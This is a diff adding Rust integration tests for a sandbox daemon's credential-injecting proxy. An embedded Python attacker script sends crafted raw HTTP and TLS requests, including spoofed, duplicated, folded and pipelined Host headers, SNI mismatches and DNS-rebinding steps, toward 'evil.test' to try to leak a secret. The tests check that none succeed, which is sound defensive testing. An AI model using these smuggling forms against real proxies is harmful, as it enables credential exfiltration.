@@ -1173,3 +1173,709 @@ print(got.split(b"\r\n")[0].decode() or "closed")
     assert_eq!(tail, "200 0", "{body}");
     d.shutdown().await;
 }
+
+/// Run inside a sandbox (`python3 - ATTACKS_JSON`): each attack opens one connection to
+/// `ip`:`port` (over TLS with `sni` when `tls`, the certificate not checked: the sandbox
+/// is the attacker; or, with `hello`, only a ClientHello for that name is sent), sends each
+/// of its `steps` (hex) and reads after each one response (`"read": "one"`) or everything
+/// until the server closes (`"all"`), closes, and waits `pause` seconds. Prints one JSON
+/// line per attack: its `name` and the `text` that came back.
+const ATTACKER: &str = r#"
+import json, socket, ssl, sys, time
+
+def read_one(s, buf):
+    while b"\r\n\r\n" not in buf:
+        d = s.recv(65536)
+        if not d:
+            return buf, b""
+        buf += d
+    head, _, rest = buf.partition(b"\r\n\r\n")
+    n = 0
+    for line in head.split(b"\r\n")[1:]:
+        k, _, v = line.partition(b":")
+        if k.strip().lower() == b"content-length":
+            n = int(v.strip())
+    while len(rest) < n:
+        d = s.recv(65536)
+        if not d:
+            break
+        rest += d
+    return head + b"\r\n\r\n" + rest[:n], rest[n:]
+
+def read_all(s, buf):
+    try:
+        while True:
+            d = s.recv(65536)
+            if not d:
+                break
+            buf += d
+    except OSError:
+        pass
+    return buf, b""
+
+for a in json.loads(sys.argv[1]):
+    text, error = b"", None
+    try:
+        s = socket.create_connection((a["ip"], a["port"]), timeout=5)
+        if a.get("tls"):
+            ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
+            ctx.check_hostname = False
+            ctx.verify_mode = ssl.CERT_NONE
+            s = ctx.wrap_socket(s, server_hostname=a.get("sni"))
+        if a.get("hello"):
+            into, out = ssl.MemoryBIO(), ssl.MemoryBIO()
+            obj = ssl.create_default_context().wrap_bio(into, out, server_hostname=a["hello"])
+            try:
+                obj.do_handshake()
+            except ssl.SSLWantReadError:
+                pass
+            s.sendall(out.read())
+        left = b""
+        for step in a["steps"]:
+            s.sendall(bytes.fromhex(step["send"]))
+            if step["read"] == "one":
+                got, left = read_one(s, left)
+            else:
+                got, left = read_all(s, left)
+            text += got
+        s.close()
+    except Exception as e:
+        error = repr(e)
+    print(json.dumps({"name": a["name"], "text": text.decode("latin-1"), "error": error}), flush=True)
+    time.sleep(a.get("pause", 0))
+"#;
+
+/// One connection of [`ATTACKER`]: `steps` are (bytes to send, read everything until the
+/// server closes rather than one response).
+fn attack(
+    name: &str,
+    ip: &str,
+    port: u16,
+    tls: Option<Option<&str>>,
+    steps: &[(&[u8], bool)],
+) -> serde_json::Value {
+    serde_json::json!({
+        "name": name,
+        "ip": ip,
+        "port": port,
+        "tls": tls.is_some(),
+        "sni": tls.flatten(),
+        "steps": steps
+            .iter()
+            .map(|(bytes, all)| serde_json::json!({"send": hex::encode(bytes), "read": if *all { "all" } else { "one" }}))
+            .collect::<Vec<_>>(),
+    })
+}
+
+/// Runs `attacks` from inside sandbox `id`: each one's name and what came back.
+async fn run_attacks(c: &Client, id: &str, attacks: &[serde_json::Value]) -> Vec<(String, String)> {
+    let req = sandpit_api::RunCommandRequest {
+        argv: vec![
+            "python3".into(),
+            "-".into(),
+            serde_json::Value::Array(attacks.to_vec()).to_string(),
+        ],
+        stdin: Some(ATTACKER.into()),
+        timeout_ms: Some(120_000),
+        ..Default::default()
+    };
+    let out = c.run(id, &req).await.expect("run the attacks");
+    let lines: Vec<serde_json::Value> = out
+        .stdout
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap_or_else(|_| panic!("{l}: {}", out.stderr)))
+        .collect();
+    assert_eq!(lines.len(), attacks.len(), "{}\n{}", out.stdout, out.stderr);
+    lines
+        .iter()
+        .map(|l| {
+            let text = format!("{} {}", l["text"].as_str().unwrap_or(""), l["error"]);
+            (l["name"].as_str().unwrap().to_string(), text)
+        })
+        .collect()
+}
+
+/// Asserts that no request any upstream server got, except at `home`, had a secret's value
+/// anywhere in it (any header), and that none of `seen` (what came back to the sandbox)
+/// shows it either.
+fn assert_secret_only_at(up: &Upstream, home: &str, seen: &[(String, String)]) {
+    for r in up.requests() {
+        if r["local"] != home {
+            assert!(
+                !r.to_string().contains(VALUE),
+                "the secret reached {}: {r}",
+                r["local"]
+            );
+        }
+    }
+    for (name, text) in seen {
+        assert!(!text.contains(VALUE), "{name}: {text}");
+    }
+}
+
+/// Whether `text` is (or holds) the broker's refusal of a credential for `reason`.
+fn refused_for(text: &str, reason: &str) -> bool {
+    text.starts_with("HTTP/1.1 403") && text.contains(&format!("\"reason\":\"{reason}\""))
+}
+
+/// A sandbox in open mode with the header-form secret `dest` and the placeholder-form
+/// secret `ph` (both bound to `allowed.test`, plain HTTP allowed, the same value).
+async fn two_secret_sandbox(d: &Daemon) -> String {
+    let mut ph = secret("ph");
+    ph.hosts = vec!["allowed.test".into()];
+    ph.path_prefixes = vec![];
+    ph.allow_http = true;
+    ph.inject = InjectSpec::Placeholder;
+    d.client().create_secret(&ph, None).await.unwrap();
+    let mut req = serde_json::to_value(small(&["dest", "ph"])).unwrap();
+    req["network"] = serde_json::json!({"mode": "open"});
+    let (status, text) = raw(
+        d,
+        reqwest::Method::POST,
+        "/v1/sandboxes",
+        Some(&req.to_string()),
+    )
+    .await;
+    assert_eq!(status, 201, "{text}");
+    serde_json::from_str::<serde_json::Value>(&text).unwrap()["id"]
+        .as_str()
+        .unwrap()
+        .to_string()
+}
+
+/// Plain HTTP to another address in every form a client might name the bound host in:
+/// spellings of the Host, the absolute-form target, several Hosts, the bound host named
+/// only in a later request of a keep-alive or pipelined connection, an upgrade, CONNECT,
+/// a Host past the proxy's peek. None may take a credential to that address.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn no_request_form_takes_a_credential_to_another_address() {
+    let up = Upstream::start(&[("allowed.test", "@2"), ("evil.test", "@@3")]);
+    let (d, _log) = dest_daemon(&up, "").await;
+    let c = d.client();
+    let id = two_secret_sandbox(&d).await;
+    let other = up.ip2(3);
+    // The sandbox knows evil.test as the other address, through the daemon's resolver.
+    let out = sh(&c, &id, "getent hosts evil.test").await;
+    assert!(out.stdout.contains(&other), "{}", out.stdout);
+    let get = |target: &str, headers: &str| -> Vec<u8> {
+        format!("GET {target} HTTP/1.1\r\n{headers}X-Api-Key: SANDPIT_SECRET_ph\r\n\r\n")
+            .into_bytes()
+    };
+    let close =
+        |target: &str, headers: &str| get(target, &format!("{headers}Connection: close\r\n"));
+    let pad = "a".repeat(17 * 1024);
+    let claimed_hosts = [
+        "allowed.test",
+        "ALLOWED.TEST",
+        "allowed.test.",
+        "Allowed.Test.:80",
+        "allowed.test:8080",
+    ];
+    let mut attacks = Vec::new();
+    let mut expect_destination = Vec::new();
+    for h in claimed_hosts {
+        let name = format!("Host: {h}");
+        attacks.push(attack(
+            &name,
+            &other,
+            80,
+            None,
+            &[(&get("/steal", &format!("Host: {h}\r\n")), false)],
+        ));
+        expect_destination.push(name);
+    }
+    for (name, bytes) in [
+        (
+            "absolute form, same Host",
+            get("http://allowed.test/steal", "Host: allowed.test\r\n"),
+        ),
+        (
+            "Upgrade: websocket",
+            get(
+                "/ws",
+                "Host: allowed.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n",
+            ),
+        ),
+    ] {
+        attacks.push(attack(name, &other, 80, None, &[(&bytes, false)]));
+        expect_destination.push(name.to_string());
+    }
+    // Refused before the destination matters: a request may name one host only.
+    let two_hosts = "Host: allowed.test, then Host: evil.test";
+    attacks.push(attack(
+        two_hosts,
+        &other,
+        80,
+        None,
+        &[(
+            &get("/steal", "Host: allowed.test\r\nHost: evil.test\r\n"),
+            false,
+        )],
+    ));
+    // Forms the proxy does not read as the bound host: they may go to the other address,
+    // but as the sandbox wrote them, with nothing put in.
+    for (name, bytes) in [
+        ("absolute form, no Host", close("http://allowed.test/steal", "")),
+        ("absolute form, Host: evil.test", close("http://allowed.test/steal", "Host: evil.test\r\n")),
+        ("absolute form, Host: the address", close("http://allowed.test/steal", &format!("Host: {other}\r\n"))),
+        ("Host: evil.test, then Host: allowed.test", close("/steal", "Host: evil.test\r\nHost: allowed.test\r\n")),
+        ("Host: allowed.test:x", close("/steal", "Host: allowed.test:x\r\n")),
+        ("Host: allowed%2etest", close("/steal", "Host: allowed%2etest\r\n")),
+        ("Host: IDN", "GET /steal HTTP/1.1\r\nHost: allowed.t\u{e9}st\r\nConnection: close\r\nX-Api-Key: SANDPIT_SECRET_ph\r\n\r\n".as_bytes().to_vec()),
+        ("folded Host", close("/steal", "X-A: b\r\n Host: allowed.test\r\n")),
+        ("Host past the peek", close("/steal", &format!("X-Pad: {pad}\r\nHost: allowed.test\r\n"))),
+        ("HTTP/1.0 without Host", b"GET /steal HTTP/1.0\r\nX-Api-Key: SANDPIT_SECRET_ph\r\n\r\n".to_vec()),
+        ("CONNECT allowed.test:443", b"CONNECT allowed.test:443 HTTP/1.1\r\nHost: allowed.test:443\r\nConnection: close\r\nX-Api-Key: SANDPIT_SECRET_ph\r\n\r\n".to_vec()),
+    ] {
+        attacks.push(attack(name, &other, 80, None, &[(&bytes, true)]));
+    }
+    // The bound host only in the second request of a connection that began as another
+    // name's (evil.test, the address itself): keep-alive, then pipelined.
+    for first_host in ["evil.test".to_string(), other.clone()] {
+        let first = get("/first", &format!("Host: {first_host}\r\n"));
+        let second = get("/steal", "Host: allowed.test\r\nConnection: close\r\n");
+        attacks.push(attack(
+            &format!("keep-alive after Host: {first_host}"),
+            &other,
+            80,
+            None,
+            &[(&first, false), (&second, true)],
+        ));
+        let both = [first.clone(), second.clone()].concat();
+        attacks.push(attack(
+            &format!("pipelined after Host: {first_host}"),
+            &other,
+            80,
+            None,
+            &[(&both, true)],
+        ));
+    }
+    let seen = run_attacks(&c, &id, &attacks).await;
+    for (name, text) in &seen {
+        eprintln!("{name}: {}", text.replace("\r\n", " | "));
+    }
+    assert_secret_only_at(&up, &up.ip(2), &seen);
+    for (name, text) in &seen {
+        if expect_destination.contains(name) {
+            assert!(refused_for(text, "destination"), "{name}: {text}");
+        }
+        if name == two_hosts {
+            assert!(refused_for(text, "host"), "{name}: {text}");
+        }
+    }
+    assert!(
+        up.requests().iter().all(|r| r["local"] != up.ip(2)),
+        "{:?}",
+        up.requests()
+    );
+    // The same sandbox's normal path still gets both credentials.
+    assert_injected_on_the_normal_path(&up, &c, &id, "http").await;
+    d.shutdown().await;
+}
+
+/// TLS to another address: the bound host in the SNI in other spellings, no SNI at all
+/// (the proxy then names the connection from the sandbox's own lookups), an SNI of a name
+/// that does resolve there with the bound host only in the Host header inside. None may
+/// take a credential to that address.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn no_server_name_takes_a_credential_to_another_address() {
+    let up = Upstream::start(&[("allowed.test", "@2"), ("evil.test", "@@3")]);
+    let (d, _log) = dest_daemon(&up, "").await;
+    let c = d.client();
+    let id = two_secret_sandbox(&d).await;
+    let other = up.ip2(3);
+    let req = |host: &str| -> Vec<u8> {
+        format!("GET /steal HTTP/1.1\r\nHost: {host}\r\nX-Api-Key: SANDPIT_SECRET_ph\r\nConnection: close\r\n\r\n")
+            .into_bytes()
+    };
+    let allowed = req("allowed.test");
+    let mut seen = run_attacks(
+        &c,
+        &id,
+        &[attack(
+            "no SNI, nothing resolved",
+            &other,
+            443,
+            Some(None),
+            &[(&allowed, true)],
+        )],
+    )
+    .await;
+    let out = sh(&c, &id, "getent hosts evil.test").await;
+    assert!(out.stdout.contains(&other), "{}", out.stdout);
+    let mut attacks = Vec::new();
+    let mut expect = Vec::new();
+    for sni in ["allowed.test", "ALLOWED.TEST", "allowed.test."] {
+        let name = format!("SNI {sni}");
+        attacks.push(attack(
+            &name,
+            &other,
+            443,
+            Some(Some(sni)),
+            &[(&allowed, true)],
+        ));
+        expect.push((name, "destination"));
+    }
+    attacks.push(attack(
+        "SNI allowed.test, Host evil.test",
+        &other,
+        443,
+        Some(Some("allowed.test")),
+        &[(&req("evil.test"), true)],
+    ));
+    expect.push(("SNI allowed.test, Host evil.test".into(), "host"));
+    attacks.push(attack(
+        "no SNI, evil.test resolved there",
+        &other,
+        443,
+        Some(None),
+        &[(&allowed, true)],
+    ));
+    attacks.push(attack(
+        "SNI evil.test, Host allowed.test",
+        &other,
+        443,
+        Some(Some("evil.test")),
+        &[(&allowed, true)],
+    ));
+    attacks.push(attack(
+        "SNI the address",
+        &other,
+        443,
+        Some(Some(other.as_str())),
+        &[(&allowed, true)],
+    ));
+    // Plain HTTP on the TLS port and TLS on the HTTP port change nothing.
+    attacks.push(attack(
+        "plain HTTP to port 443",
+        &other,
+        443,
+        None,
+        &[(&allowed, true)],
+    ));
+    attacks.push(attack(
+        "TLS to port 80",
+        &other,
+        80,
+        Some(Some("allowed.test")),
+        &[(&allowed, true)],
+    ));
+    seen.extend(run_attacks(&c, &id, &attacks).await);
+    for (name, text) in &seen {
+        eprintln!("{name}: {}", text.replace("\r\n", " | "));
+    }
+    assert_secret_only_at(&up, &up.ip(2), &seen);
+    for (name, reason) in &expect {
+        let (_, text) = seen.iter().find(|(n, _)| n == name).unwrap();
+        assert!(refused_for(text, reason), "{name}: {text}");
+    }
+    assert_injected_on_the_normal_path(&up, &c, &id, "https").await;
+    d.shutdown().await;
+}
+
+/// What the daemon's resolver told one sandbox verifies no other's connection: sandbox A
+/// is told (by the operator's DNS, with a short TTL) that the bound host is at another
+/// address; when the name has moved back, sandbox B naming the host to that address gets
+/// no credential there.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn one_sandboxs_lookup_verifies_no_other_sandboxs_destination() {
+    let up = Upstream::start(&[("allowed.test", "@2")]);
+    let (d, _log) = dest_daemon(&up, "").await;
+    let c = d.client();
+    let other = up.ip2(3);
+    let a = dest_sandbox(&d, serde_json::json!({"mode": "open"})).await;
+    let b = dest_sandbox(&d, serde_json::json!({"mode": "open"})).await;
+    up.set_dns("allowed.test", "@@3", 1);
+    // The operator's DNS said so: the credential goes there for A.
+    let (body, tail) = curl(&c, &a, "http://allowed.test/a").await;
+    assert_eq!(tail, "200 0", "{body}");
+    let last = up.requests().pop().unwrap();
+    assert_eq!(
+        (last["local"].as_str(), last["path"].as_str()),
+        (Some(other.as_str()), Some("/a")),
+        "{last}"
+    );
+    assert_eq!(last["authorization"], format!("Bearer {VALUE}"), "{last}");
+    up.set_dns("allowed.test", "@2", 1);
+    // Past the daemon's cache of the answer (its TTL).
+    tokio::time::sleep(std::time::Duration::from_millis(2500)).await;
+    for how in [
+        format!("-H 'Host: allowed.test' http://{other}/b"),
+        format!("--resolve allowed.test:80:{other} http://allowed.test/b"),
+    ] {
+        let (body, tail) = curl(&c, &b, &how).await;
+        assert_destination_refused(&how, &body, &tail);
+    }
+    let reached: Vec<_> = up
+        .requests()
+        .into_iter()
+        .filter(|r| r["path"] == "/b")
+        .collect();
+    assert!(reached.is_empty(), "{reached:?}");
+    assert_injected_on_the_normal_path(&up, &c, &b, "http").await;
+    d.shutdown().await;
+}
+
+/// An address the bound host resolved to once stays one of its addresses only for as long
+/// as that answer holds (at least a minute): looking up another name of the same address
+/// again and again must not keep the old answer alive.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn another_names_lookups_do_not_keep_an_old_address_of_the_host() {
+    let up = Upstream::start(&[("allowed.test", "@2"), ("evil.test", "@@3")]);
+    let (d, _log) = dest_daemon(&up, "").await;
+    let c = d.client();
+    let other = up.ip2(3);
+    let id = dest_sandbox(&d, serde_json::json!({"mode": "open"})).await;
+    up.set_dns("allowed.test", "@@3", 1);
+    let out = sh(&c, &id, "getent hosts allowed.test").await;
+    assert!(out.stdout.contains(&other), "{}", out.stdout);
+    up.set_dns("allowed.test", "@2", 1);
+    // The daemon remembers an answer for at least 60 s; evil.test (the same address) is
+    // looked up all along, past that.
+    let start = std::time::Instant::now();
+    while start.elapsed() < std::time::Duration::from_secs(66) {
+        let out = sh(&c, &id, "getent hosts evil.test").await;
+        assert!(out.stdout.contains(&other), "{}", out.stdout);
+        tokio::time::sleep(std::time::Duration::from_secs(10)).await;
+    }
+    let (body, tail) = curl(
+        &c,
+        &id,
+        &format!("-H 'Host: allowed.test' http://{other}/stale"),
+    )
+    .await;
+    let reached: Vec<_> = up
+        .requests()
+        .into_iter()
+        .filter(|r| r["path"] == "/stale")
+        .collect();
+    assert!(reached.is_empty(), "{reached:?}");
+    assert_destination_refused("an old address", &body, &tail);
+    assert_injected_on_the_normal_path(&up, &c, &id, "http").await;
+    d.shutdown().await;
+}
+
+/// On a connection to the bound host's own address, a request whose Host names another
+/// host (a second Host header, or one after a "port" that is no port) gets no credential:
+/// a front end that serves many hosts at that address (a CDN) may route by what the broker
+/// did not check.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_request_naming_another_host_gets_no_credential_at_the_hosts_address() {
+    let up = Upstream::start(&[("allowed.test", "@2"), ("evil.test", "@@3")]);
+    let (d, _log) = dest_daemon(&up, "").await;
+    let c = d.client();
+    let id = two_secret_sandbox(&d).await;
+    let home = up.ip(2);
+    let out = sh(&c, &id, "getent hosts allowed.test").await;
+    assert!(out.stdout.contains(&home), "{}", out.stdout);
+    let req = |hosts: &str| -> Vec<u8> {
+        format!("GET /vhost HTTP/1.1\r\n{hosts}X-Api-Key: SANDPIT_SECRET_ph\r\nConnection: close\r\n\r\n")
+            .into_bytes()
+    };
+    let mut attacks = Vec::new();
+    for (name, hosts) in [
+        (
+            "Host: allowed.test, then Host: evil.test",
+            "Host: allowed.test\r\nHost: evil.test\r\n",
+        ),
+        (
+            "Host: allowed.test:80@evil.test",
+            "Host: allowed.test:80@evil.test\r\n",
+        ),
+        (
+            "Host: allowed.test:evil.test",
+            "Host: allowed.test:evil.test\r\n",
+        ),
+    ] {
+        attacks.push(attack(name, &home, 80, None, &[(&req(hosts), true)]));
+        attacks.push(attack(
+            &format!("TLS, {name}"),
+            &home,
+            443,
+            Some(Some("allowed.test")),
+            &[(&req(hosts), true)],
+        ));
+    }
+    // A first request that rightly gets the credential, then one naming another host on
+    // the same connection: one after the other, and pipelined.
+    let first = b"GET /first HTTP/1.1\r\nHost: allowed.test\r\n\r\n".to_vec();
+    let second = req("Host: evil.test\r\n");
+    let both = [first.clone(), second.clone()].concat();
+    let later = [
+        "keep-alive",
+        "TLS, keep-alive",
+        "pipelined",
+        "TLS, pipelined",
+    ];
+    for (name, port, tls, steps) in [
+        (
+            later[0],
+            80,
+            None,
+            vec![(&first[..], false), (&second[..], true)],
+        ),
+        (
+            later[1],
+            443,
+            Some(Some("allowed.test")),
+            vec![(&first[..], false), (&second[..], true)],
+        ),
+        (later[2], 80, None, vec![(&both[..], true)]),
+        (
+            later[3],
+            443,
+            Some(Some("allowed.test")),
+            vec![(&both[..], true)],
+        ),
+    ] {
+        attacks.push(attack(name, &home, port, tls, &steps));
+    }
+    let seen = run_attacks(&c, &id, &attacks).await;
+    for (name, text) in &seen {
+        eprintln!("{name}: {}", text.replace("\r\n", " | "));
+    }
+    let reached: Vec<_> = up
+        .requests()
+        .into_iter()
+        .filter(|r| r["path"] == "/vhost" && r.to_string().contains(VALUE))
+        .collect();
+    assert!(reached.is_empty(), "{reached:#?}");
+    for (name, text) in &seen {
+        if later.contains(&name.as_str()) {
+            let (one, two) = text.split_at(text.find("HTTP/1.1 403").unwrap_or(0));
+            assert!(one.starts_with("HTTP/1.1 200"), "{name}: {text}");
+            assert!(refused_for(two, "host"), "{name}: {text}");
+        } else {
+            assert!(refused_for(text, "host"), "{name}: {text}");
+        }
+    }
+    let firsts = up
+        .requests()
+        .into_iter()
+        .filter(|r| r["path"] == "/first")
+        .count();
+    assert_eq!(firsts, later.len(), "{:?}", up.requests());
+    assert_injected_on_the_normal_path(&up, &c, &id, "https").await;
+    d.shutdown().await;
+}
+
+/// Every way a proxied connection ends gives its sandbox's slot back: refused by the
+/// policy (an address, a name elsewhere), idle past the peek, closed at once, a TLS hello
+/// and gone, refused by the broker, carried with a credential. Each is done more times
+/// than the limit, one after another; the credential's requests, last, still get through.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn every_way_a_connection_ends_gives_its_slot_back() {
+    let up = Upstream::start(&[("allowed.test", "@2")]);
+    let (d, _log) = dest_daemon(
+        &up,
+        "peek_timeout_ms = 300\nmax_connections_per_sandbox = 2",
+    )
+    .await;
+    let c = d.client();
+    let id = dest_sandbox(
+        &d,
+        serde_json::json!({
+            "mode": "allowlist",
+            "rules": [{"action": "allow", "domain": "allowed.test", "ports": [80, 443]}],
+        }),
+    )
+    .await;
+    let (home, other) = (up.ip(2), up.ip2(3));
+    let out = sh(&c, &id, "getent hosts allowed.test").await;
+    assert!(out.stdout.contains(&home), "{}", out.stdout);
+    let req = |method: &str, host: &str, path: &str| -> Vec<u8> {
+        format!("{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n")
+            .into_bytes()
+    };
+    let kinds: Vec<(&str, serde_json::Value)> = vec![
+        (
+            "policy: an address",
+            attack("", &other, 80, None, &[(&req("GET", &other, "/x"), true)]),
+        ),
+        (
+            "policy: a name elsewhere",
+            attack(
+                "",
+                &other,
+                80,
+                None,
+                &[(&req("GET", "allowed.test", "/x"), true)],
+            ),
+        ),
+        (
+            "idle past the peek",
+            attack("", &other, 80, None, &[(b"", true)]),
+        ),
+        ("closed at once", attack("", &home, 80, None, &[])),
+        ("TLS hello, then gone", {
+            let mut a = attack("", &home, 443, None, &[]);
+            a["hello"] = "allowed.test".into();
+            a
+        }),
+        (
+            "broker: method refused",
+            attack(
+                "",
+                &home,
+                80,
+                None,
+                &[(&req("DELETE", "allowed.test", "/x"), true)],
+            ),
+        ),
+        (
+            "credential put in",
+            attack(
+                "",
+                &home,
+                80,
+                None,
+                &[(&req("GET", "allowed.test", "/slot"), true)],
+            ),
+        ),
+        (
+            "TLS, credential put in",
+            attack(
+                "",
+                &home,
+                443,
+                Some(Some("allowed.test")),
+                &[(&req("GET", "allowed.test", "/slot"), true)],
+            ),
+        ),
+    ];
+    let mut attacks = Vec::new();
+    for (name, a) in &kinds {
+        for n in 0..3 {
+            let mut a = a.clone();
+            a["name"] = format!("{name} #{n}").into();
+            a["pause"] = 0.2.into();
+            attacks.push(a);
+        }
+    }
+    let seen = run_attacks(&c, &id, &attacks).await;
+    for (name, text) in &seen {
+        eprintln!("{name}: {}", text.lines().next().unwrap_or(""));
+        if name.starts_with("policy") {
+            assert!(text.starts_with("HTTP/1.1 403"), "{name}: {text}");
+        }
+        if name.starts_with("broker") {
+            assert!(refused_for(text, "method"), "{name}: {text}");
+        }
+        if name.contains("credential put in") {
+            assert!(text.starts_with("HTTP/1.1 200"), "{name}: {text}");
+        }
+    }
+    let injected = up
+        .seen_authorization()
+        .iter()
+        .filter(|a| a.contains(VALUE))
+        .count();
+    assert_eq!(injected, 6, "{:?}", up.requests());
+    let (_, items) = audit_of(&d, &id).await;
+    let over: Vec<_> = items
+        .iter()
+        .filter(|e| e.rule == "too many open connections for this sandbox")
+        .collect();
+    assert!(over.is_empty(), "{over:?}");
+    d.shutdown().await;
+}
